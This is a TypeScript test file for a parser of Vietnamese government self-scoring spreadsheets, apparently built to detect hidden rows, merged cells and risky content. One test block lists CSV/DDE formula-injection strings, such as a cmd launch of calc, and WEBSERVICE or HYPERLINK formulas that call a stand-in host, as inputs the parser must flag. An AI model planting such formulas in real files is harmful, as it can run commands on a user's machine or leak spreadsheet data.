/** Sheets as officers really type them, built by hand and read against the sample movement. */
import { describe, expect, it } from 'vitest';
import type { Sheet } from '../../../core/grid/sheet.ts';
import { readReports } from '../../../core/report/read.ts';
import type { Register } from '../../../core/report/register.ts';
import type { Entry, Remark, Report } from '../../../core/report/report.ts';
import { SAMPLE_MOVEMENT } from '../../fixtures/sample-movement.ts';
import { bookOf, type Plain, type SheetOptions, sheetOf } from './book.ts';

const PLAN = 'Ban hành kế hoạch thực hiện phong trào thi đua của đơn vị';
const FILES = 'Tỷ lệ hồ sơ công việc được xử lý trên môi trường mạng';
const MEETINGS = 'Tỷ lệ cuộc họp được tổ chức trực tuyến';
const TRAINED = 'Số công chức được bồi dưỡng chuyên sâu về chuyển đổi số';
const ACCOUNTS = 'Tỷ lệ người dân trưởng thành có tài khoản thanh toán điện tử';
const FUNDS = 'Kinh phí huy động cho chuyển đổi số';
const HEADER = [
  'STT',
  'Tiêu chí',
  'Điểm tối đa',
  'Kết quả thực hiện',
  'Điểm tự chấm',
  'Tài liệu kiểm chứng',
  'Ghi chú',
];

function reportsOf(...sheets: Sheet[]): readonly Report[] {
  return readReports(bookOf(sheets), { file: 'f.xlsx', movement: SAMPLE_MOVEMENT }).reports;
}

function read(rows: readonly (readonly Plain[])[], options: SheetOptions = {}): Report {
  const [report] = reportsOf(sheetOf(rows, options));
  if (!report) throw new Error('no report found');
  return report;
}

function entryOf(report: Report, code: string): Entry {
  const entry = report.entries.find((one) => one.criterion === code);
  if (!entry) throw new Error(`no entry ${code}`);
  return entry;
}

const ofKind = <K extends Remark['kind']>(report: Report, kind: K) =>
  report.remarks.filter((remark): remark is Extract<Remark, { kind: K }> => remark.kind === kind);

describe('rows that belong to the criterion above', () => {
  it('reads a = 72, b = 90 below the criterion, with their cells', () => {
    const report = read([
      HEADER,
      ['2.1', FILES, 20, null, 18],
      [null, 'a = 72'],
      [null, 'b = 90 hồ sơ'],
      [null, 'Tỷ lệ = a/b'],
      [null, 'Điểm = Tỷ lệ*Điểm tối đa'],
      ['2.2', MEETINGS, 10, '3/6', 10],
    ]);
    const entry = entryOf(report, '2.1');
    expect(entry.numerator).toMatchObject({ reading: { kind: 'number', value: 72 }, cell: { address: 'B3' } });
    expect(entry.denominator).toMatchObject({ reading: { kind: 'number', value: 90 }, cell: { address: 'B4' } });
    expect(entry.value).toMatchObject({ reading: { kind: 'missing' }, cell: { address: 'D2' } });
    expect(report.remarks).toEqual([]);
  });

  it('reads the figures in the result column, and lets the rule say that a is the denominator', () => {
    const report = read([
      HEADER,
      ['2.1', FILES, 20, null, 18],
      [null, 'a: Tổng số hồ sơ công việc', null, 90],
      [null, 'b: Số hồ sơ xử lý trên môi trường mạng', null, 72],
      [null, 'Tỷ lệ = b/a*100%'],
      ['2.2', MEETINGS, 10, '3/6', 10],
    ]);
    const entry = entryOf(report, '2.1');
    expect(entry.numerator).toMatchObject({ reading: { value: 72 }, cell: { address: 'D4' } });
    expect(entry.denominator).toMatchObject({ reading: { value: 90 }, cell: { address: 'D3' } });
    expect(report.remarks).toEqual([]);
  });

  it('four rows for one criterion, a and b told in the method column (CR-03)', () => {
    const report = read(
      [
        ['STT', 'Chỉ số', 'Điểm tối đa', 'Cách xác định và tính điểm', 'Kết quả', 'Điểm tự chấm', 'Minh chứng'],
        ['2.1', FILES, 20, 'a= Số hồ sơ xử lý trên mạng', 72, 16, 'KH 1/KH-UBND'],
        [null, null, null, 'b= Tổng số hồ sơ', 90],
        [null, null, null, 'Tỷ lệ=a/b'],
        [null, null, null, 'Điểm=Tỷ lệ*Điểm tối đa'],
        ['2.2', MEETINGS, 10, 'a= Số cuộc họp trực tuyến, b= Tổng số cuộc họp', '3/6', 10, 'KH 2/KH-UBND'],
      ],
      { merges: ['A2:A5', 'B2:B5'] },
    );
    const entry = entryOf(report, '2.1');
    expect(entry.numerator).toMatchObject({ reading: { value: 72 }, cell: { address: 'E2' } });
    expect(entry.denominator).toMatchObject({ reading: { value: 90 }, cell: { address: 'E3' } });
    expect(entry.value).toBeUndefined();
    expect(entryOf(report, '2.2').value?.reading).toEqual({ kind: 'fraction', a: 3, b: 6 });
    expect(report.remarks).toEqual([]);
  });

  it('skips "- Nam", "- Nữ" and rule text, but tells a row it does not know', () => {
    const report = read([
      HEADER,
      ['2.3', TRAINED, 10, 4, 10],
      [null, '- Nam', null, 3],
      [null, '- Nữ', null, 1],
      [null, 'Mỗi người được 5 điểm, tối đa 10 điểm'],
      ['2.9', 'Số lượng trồng cây xanh quanh trụ sở', 5, 12, 5],
      ['3.3', FUNDS, 5, '15,5 triệu đồng', 3],
    ]);
    expect(report.entries.map((entry) => entry.criterion)).toEqual(['2.3', '3.3']);
    expect(ofKind(report, 'unknown-row')).toEqual([
      expect.objectContaining({
        text: 'Số lượng trồng cây xanh quanh trụ sở',
        cell: { sheet: 'Sheet1', address: 'B6' },
      }),
    ]);
    expect(entryOf(report, '3.3').value?.reading).toMatchObject({ kind: 'number', value: 15.5 });
  });
});

describe('how rows are matched', () => {
  it('by a reworded title, with its likeness; never by a faint one', () => {
    const report = read([
      HEADER,
      [null, 'Tỷ lệ hồ sơ công việc được xử lý trên môi trường mạng internet', 20, '72/90', 18],
      [null, 'Ti le nguoi dan truong thanh co tai khoan thanh toan dien tu', 20, '72/90', 18],
      [null, 'Tỷ lệ hộ nghèo được tiếp cận dịch vụ', 20, '5/9', 18],
    ]);
    expect(report.entries.map((entry) => [entry.criterion, entry.matched.by])).toEqual([
      ['2.1', 'similar'],
      ['3.2', 'similar'],
    ]);
    expect(entryOf(report, '2.1').matched.similarity).toBeGreaterThan(0.8);
    expect(ofKind(report, 'unknown-row')).toHaveLength(1);
  });

  it('the title wins over a wrong code', () => {
    const report = read([
      ['Mã', ...HEADER.slice(1)],
      ['2.2', FILES, 20, '72/90', 18],
      ['2.1', MEETINGS, 10, '3/6', 10],
      ['3.2', 'Tên tiêu chí đã bị sửa hẳn', 20, '1/2', 20],
    ]);
    expect(report.entries.map((entry) => [entry.criterion, entry.matched.by])).toEqual([
      ['2.1', 'title'],
      ['2.2', 'title'],
      ['3.2', 'code'],
    ]);
    expect(entryOf(report, '3.2').matched.similarity).toBeLessThan(0.5);
  });

  it('numbering may be roman groups with numbers inside, codes as numbers, or "Chỉ tiêu 1"', () => {
    const grouped = read([
      ['TT', ...HEADER.slice(1)],
      ['II', 'Chính quyền số'],
      [1, `${FILES} (20đ)`, null, '72/90', 18],
      [2, MEETINGS, 10, '3/6', 10],
      [3, 'Công chức bồi dưỡng chuyển đổi số', 10, 4, 10],
      ['III', 'Kinh tế số, xã hội số'],
      [2, ACCOUNTS, 20, '50/100', 20],
      [null, 'Cộng', 60, null, 58],
    ]);
    expect(grouped.entries.map((entry) => entry.criterion)).toEqual(['2.1', '2.2', '2.3', '3.2']);
    expect(entryOf(grouped, '2.1').max).toMatchObject({ reading: { kind: 'number', value: 20 } });
    expect(entryOf(grouped, '2.3').matched.by).toBe('code');
    expect(grouped.total).toMatchObject({ reading: { kind: 'number', value: 58 }, cell: { address: 'E8' } });
    const asNumbers = read([
      HEADER,
      [2.1, FILES, 20, '72/90', 18],
      [2.2, MEETINGS, 10, '3/6', 10],
      [3.2, 'Người dân có tài khoản', 20, '1/2', 9],
    ]);
    expect(asNumbers.entries.map((entry) => entry.criterion)).toEqual(['2.1', '2.2', '3.2']);
  });

  it('a second row of a criterion is told and the first kept', () => {
    const report = read([
      HEADER,
      ['2.1', FILES, 20, '72/90', 18],
      ['2.2', MEETINGS, 10, '3/6', 10],
      ['2.1', FILES, 20, '9/90', 2],
    ]);
    expect(entryOf(report, '2.1').value?.reading).toEqual({ kind: 'fraction', a: 72, b: 90 });
    expect(ofKind(report, 'duplicate-row')).toEqual([
      {
        kind: 'duplicate-row',
        criterion: '2.1',
        cell: { sheet: 'Sheet1', address: 'B4' },
        first: { sheet: 'Sheet1', address: 'B2' },
      },
    ]);
  });
});

describe('columns', () => {
  it('tells a missing result, self-score or evidence column at the title header', () => {
    const roles = (rows: Plain[][]): unknown =>
      ofKind(read(rows), 'missing-column').map((remark) => [remark.role, remark.cell.address]);
    expect(
      roles([
        ['STT', 'TIÊU CHÍ THI ĐUA', 'ĐIỂM CHUẨN', 'HƯỚNG DẪN CHẤM ĐIỂM'],
        ['2.1', FILES, 20, 'Tỷ lệ = a/b'],
      ]),
    ).toEqual([
      ['value', 'B1'],
      ['self', 'B1'],
      ['evidence', 'B1'],
    ]);
    expect(
      roles([
        ['TT', 'Chỉ tiêu', 'Đơn vị', 'Số lượng', 'Văn bản chứng minh'],
        [1, FILES, '%', '72/90', 'KH 1/KH-UBND'],
      ]),
    ).toEqual([]);
  });

  it('without a result column an explanation that is wholly a value is the value; documents in it are evidence', () => {
    const report = read([
      ['TT', 'Chỉ số/Chỉ số thành phần', 'QUY CHUẨN ĐÁNH GIÁ', null, 'TỰ ĐÁNH GIÁ', null],
      [null, null, 'Điểm tối đa', 'Cách xác định và tính điểm', 'Điểm (số) tự chấm', 'Giải trình kết quả'],
      ['A', 'B', 'C', 'D', 'E', 'F'],
      ['1.1', PLAN, 10, null, 10, 'Kế hoạch số 12/KH-UBND ngày 05/01/2025'],
      ['2.1', FILES, 20, null, 18, '72/90 hồ sơ'],
      ['2.2', MEETINGS, 10, null, 10, 'đã họp trực tuyến khoảng 3 cuộc trên 6 cuộc'],
      ['2.3', TRAINED, 10, null, 10, '-'],
    ]);
    expect(entryOf(report, '2.1').value?.reading).toEqual({ kind: 'fraction', a: 72, b: 90 });
    expect(entryOf(report, '2.2').value).toBeUndefined();
    expect(entryOf(report, '1.1').evidence).toEqual(['Kế hoạch số 12/KH-UBND ngày 05/01/2025']);
    expect(report.layout.columns.get('self')).toBe(4);
    expect(report.remarks).toEqual([]);
  });

  it('the final points serve before those of the first round; a header printed again is no row', () => {
    const header = [
      'TT',
      'Tiêu chí',
      'Thang điểm',
      'Kết quả',
      'Điểm tự chấm',
      'Thẩm định lần 1',
      'Giải trình',
      'Thẩm định lần 2',
      'Điểm cuối',
      'Minh chứng',
    ];
    const report = read([
      header,
      ['2.1', FILES, 20, '72/90', 18, 17, null, 16, 15],
      header,
      ['2.2', MEETINGS, 10, '3/6', 10, 9, null, null, null],
    ]);
    expect(entryOf(report, '2.1').appraised?.reading).toMatchObject({ value: 15 });
    expect(entryOf(report, '2.2').appraised?.reading).toMatchObject({ value: 9 });
    expect(report.entries).toHaveLength(2);
    expect(report.remarks).toEqual([]);
  });

  it('several documents of one cell are parted; "-" and "Không" cite none', () => {
    const evidence = (text: string) => entryOf(read([HEADER, ['2.1', FILES, 20, '1/2', 1, text]]), '2.1').evidence;
    expect(evidence('- KH 12/KH-UBND ngày 05/01/2025;\n- Báo cáo 7/BC-UBND')).toEqual([
      'KH 12/KH-UBND ngày 05/01/2025',
      'Báo cáo 7/BC-UBND',
    ]);
    expect(evidence('QĐ 3/QĐ-UBND và KH 4/KH-UBND')).toEqual(['QĐ 3/QĐ-UBND', 'KH 4/KH-UBND']);
    expect(evidence('Kế hoạch 4/KH-UBND về thu và chi')).toEqual(['Kế hoạch 4/KH-UBND về thu và chi']);
    for (const none of ['-', 'Không', '…………', ' ', '.']) expect(evidence(none)).toEqual([]);
  });
});

describe('what is hidden or dangerous', () => {
  const rows = [
    HEADER,
    ['2.1', FILES, 20, '72/90', 18, 'KH 1/KH-UBND'],
    ['2.2', MEETINGS, 10, '3/6', 10, 'KH 2/KH-UBND'],
  ];

  it('values of hidden rows, columns and sheets are read and told; a look-up sheet is not', () => {
    const hidden = read(rows, { hiddenRows: [2], hiddenColumns: [4], state: 'hidden', name: 'BC' });
    expect(hidden.entries).toHaveLength(2);
    expect(ofKind(hidden, 'hidden')).toEqual([
      { kind: 'hidden', what: 'hàng 3', cell: { sheet: 'BC', address: 'D3' }, criterion: '2.2' },
      { kind: 'hidden', what: 'cột E', cell: { sheet: 'BC', address: 'E2' } },
      { kind: 'hidden', what: 'trang tính "BC"', cell: { sheet: 'BC', address: 'A1' } },
    ]);
    const lookup = sheetOf(
      [
        ['Mã', 'Tên'],
        ['01', 'Bản Nà Đắng'],
        ['02', { error: '#N/A' }],
      ],
      { name: 'DM', state: 'hidden' },
    );
    const bare = sheetOf(
      [
        [FILES, 3],
        [MEETINGS, 4],
        [TRAINED, 5],
      ],
      { name: 'Nháp', state: 'very-hidden' },
    );
    const file = readReports(bookOf([sheetOf(rows), lookup, bare]), { file: 'f.xlsx', movement: SAMPLE_MOVEMENT });
    expect(file.reports).toHaveLength(1);
    expect(file.remarks).toEqual([
      { kind: 'hidden', what: 'trang tính "Nháp"', cell: { sheet: 'Nháp', address: 'A1' } },
    ]);
  });

  it('a value under a merge is told, not read', () => {
    const report = read(rows, { merges: ['D2:D3'] });
    expect(entryOf(report, '2.2').value?.reading).toEqual({ kind: 'missing' });
    expect(ofKind(report, 'hidden')).toEqual([
      { kind: 'hidden', what: 'ô D3 nằm dưới ô gộp', cell: { sheet: 'Sheet1', address: 'D3' }, criterion: '2.2' },
    ]);
  });

  it.each([
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    '=HYPERLINK("http://x","y")',
    '@SUM(A1:A9)',
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '=A1',
    '=72/90',
  ])('text that would run is told: %s', (text) => {
    const report = read([...rows, ['2.3', TRAINED, 10, 4, 10, 'KH 3/KH-UBND', text]]);
    expect(ofKind(report, 'formula-text').map((remark) => remark.cell.address)).toEqual(['G4']);
  });

  it.each([
    '- Nam',
    '-5',
    '+84 912 345 678',
    '@',
    '- Đã ban hành (có kế hoạch)',
    '= Tổng số hồ sơ',
    '=> Đạt',
    '+ Có',
    '-',
    '@vneid',
    '- KH|QĐ kèm theo',
    '+ Nam(3), Nữ(2)',
  ])('everyday writing is not: %s', (text) => {
    const report = read([...rows, ['2.3', TRAINED, 10, 4, 10, 'KH 3/KH-UBND', text]]);
    expect(ofKind(report, 'formula-text')).toEqual([]);
  });

  it('a formula that reaches outside is told, a sum is not', () => {
    const report = read([
      ...rows,
      ['2.3', TRAINED, 10, { formula: 'WEBSERVICE("http://x/"&A1)', value: 4 }, { formula: 'SUM(E2:E3)', value: 28 }],
    ]);
    expect(ofKind(report, 'formula-text')).toEqual([
      { kind: 'formula-text', text: '=WEBSERVICE("http://x/"&A1)', cell: { sheet: 'Sheet1', address: 'D4' } },
    ]);
  });
});

describe('who, when, which set', () => {
  const table = [
    HEADER,
    ['2.1', FILES, 20, '72/90', 18, 'KH 1/KH-UBND'],
    ['2.2', MEETINGS, 10, '3/6', 10, 'KH 2/KH-UBND'],
  ];
  const register: Register = [
    {
      name: 'Văn phòng HĐND - UBND',
      otherNames: [],
      audience: 'agency',
      registered: true,
      received: null,
      women: null,
      facts: [],
      awards: [],
      portalCode: null,
    },
    {
      name: 'Bản Nà Đắng',
      otherNames: [],
      audience: 'village',
      registered: true,
      received: null,
      women: null,
      facts: [],
      awards: [],
      portalCode: null,
    },
  ];
  const withLines = (...lines: Plain[][]): Report => read([...lines, ...table]);

  it.each([
    [['Đơn vị: Bản Nà Đắng'], 'Bản Nà Đắng'],
    [['Tên đơn vị:', null, 'Bản Nà Đắng'], 'Bản Nà Đắng'],
    [['1. Đơn vị đăng ký thi đua: Công ty Sơn La…………'], 'Công ty Sơn La'],
    [['BẢNG TỰ CHẤM ĐIỂM CỦA CÔNG TY SƠN LA'], 'CÔNG TY SƠN LA'],
    [['BÁO CÁO KẾT QUẢ THỰC HIỆN PHONG TRÀO THI ĐUA CỦA BẢN NÀ ĐẮNG NĂM 2025'], 'BẢN NÀ ĐẮNG'],
    [['UBND XÃ MẪU SƠN\nBẢN NÀ ĐẮNG', null, 'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM'], 'BẢN NÀ ĐẮNG'],
  ])('finds the unit in %s', (line, unit) => {
    expect(withLines(line).unit?.text).toBe(unit);
  });

  it.each([
    [['Đơn vị: ……………']],
    [['Đơn vị tính: triệu đồng']],
    [['Đơn vị: tỷ đồng']],
    [['CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM']],
    [['Đơn vị: điểm']],
    [['UBND XÃ MẪU SƠN']],
    [['BẢN TỔNG HỢP ĐIỂM SỐ CỦA CÁC TIÊU CHÍ']],
  ])('takes no unit from %s', (line) => {
    expect(withLines(line).unit).toBeNull();
  });

  it('two units over one table are told', () => {
    const report = withLines(['Đơn vị: Bản Nà Đắng'], ['Đơn vị: Bản Phiêng Mu']);
    expect(ofKind(report, 'several-units')).toMatchObject([{ text: 'Bản Phiêng Mu', cell: { address: 'A2' } }]);
  });

  it.each([
    ['Kỳ báo cáo: quý 3 năm 2025', { kind: 'quarter', year: 2025, quarter: 3 }],
    ['Quý IV/2025', { kind: 'quarter', year: 2025, quarter: 4 }],
    ['Báo cáo tháng 11 năm 2025', { kind: 'month', year: 2025, month: 11 }],
    ['KẾT QUẢ 6 THÁNG ĐẦU NĂM 2025', { kind: 'half', year: 2025, half: 1 }],
    ['Phong trào thi đua giai đoạn 2023 - 2030, năm 2025', { kind: 'year', year: 2025 }],
    ['(Kèm theo Kế hoạch số 12/KH-UBND ngày 06 tháng 01 năm 2024) kỳ báo cáo năm 2025', { kind: 'year', year: 2025 }],
  ])('finds the period in %s', (line, period) => {
    expect(withLines([line]).period?.period).toEqual(period);
  });

  it('finds the day of the report; blanks are no date, an impossible day is told as it stands', () => {
    const dateOf = (line: Plain[]) => read([...table, [null], line, ['NGƯỜI LẬP', null, null, 'CHỦ TỊCH']]).date;
    expect(dateOf([null, null, 'Mẫu Sơn, ngày 03 tháng 11 năm 2025'])?.date).toBe('2025-11-03');
    expect(dateOf([null, null, 'Mẫu Sơn, ngày      tháng     năm 2025'])).toBeNull();
    expect(dateOf([null, null, 'Mẫu Sơn, ngày 31 tháng 02 năm 2025'])).toMatchObject({
      date: null,
      cell: { address: 'C5' },
    });
    expect(withLines(['Ngày báo cáo:', '03/11/2025']).date?.date).toBe('2025-11-03');
  });

  it('the audience printed wins, then the register, then the best fit; signatures are no rows', () => {
    const read1 = (lines: Plain[][], known: Register | null) =>
      readReports(bookOf([sheetOf([...lines, ...table, ['CHỦ TỊCH', 'Lò Văn An']])]), {
        file: 'vp-hdnd-ubnd.xlsx',
        movement: SAMPLE_MOVEMENT,
        register: known,
      }).reports[0];
    expect(read1([['Đơn vị: Bản Nà Đắng'], ['Đối tượng: Cơ quan, đơn vị']], register)).toMatchObject({
      audience: 'agency',
      audienceFrom: 'sheet',
    });
    expect(read1([['Đơn vị: VP HĐND-UBND']], register)).toMatchObject({
      audience: 'agency',
      audienceFrom: 'register',
      remarks: [],
    });
    expect(read1([['Đơn vị: Bản Nà Đắng']], null)).toMatchObject({ audience: 'village', audienceFrom: 'best-fit' });
  });

  it('several tables on one sheet, each with its unit, are several reports', () => {
    const reports = reportsOf(
      sheetOf([
        ['Đơn vị: Bản Nà Đắng'],
        ...table,
        [null, 'Tổng cộng', 30, null, 28],
        ['Đơn vị: Bản Phiêng Mu'],
        ...table,
      ]),
    );
    expect(reports.map((report) => [report.unit?.text, report.entries.length])).toEqual([
      ['Bản Nà Đắng', 2],
      ['Bản Phiêng Mu', 2],
    ]);
  });

  it('each report of one sheet has its own day', () => {
    const dated = (unit: string, day: string): Plain[][] => [
      [`Đơn vị: ${unit}`],
      ...table,
      [null, null, `Mẫu Sơn, ngày ${day} tháng 11 năm 2025`],
      ['NGƯỜI LẬP', null, 'TRƯỞNG BẢN'],
      ['Lò Văn An'],
    ];
    const reports = reportsOf(sheetOf([...dated('Bản Nà Đắng', '03'), ...dated('Bản Phiêng Mu', '04')]));
    expect(reports.map((report) => [report.unit?.text, report.date?.date])).toEqual([
      ['Bản Nà Đắng', '2025-11-03'],
      ['Bản Phiêng Mu', '2025-11-04'],
    ]);
  });

  it('a year in the movement’s own title counts only when nothing beside it names a period', () => {
    const { title } = SAMPLE_MOVEMENT;
    expect(withLines([`${title}, năm 2024`]).period?.period).toEqual({ kind: 'year', year: 2024 });
    expect(withLines([title], ['Số liệu quý I năm 2025']).period?.period).toEqual({
      kind: 'quarter',
      year: 2025,
      quarter: 1,
    });
    expect(withLines([title]).period?.period).toEqual({ kind: 'year', year: 2025 });
  });

  it('a workbook about something else holds no report', () => {
    expect(
      reportsOf(
        sheetOf([
          ['STT', 'Nội dung', 'Số lượng', 'Ghi chú'],
          [1, 'Ghế xoay văn phòng', 12],
          [2, 'Bàn họp', 3],
        ]),
      ),
    ).toEqual([]);
    expect(reportsOf(sheetOf([]))).toEqual([]);
  });
});
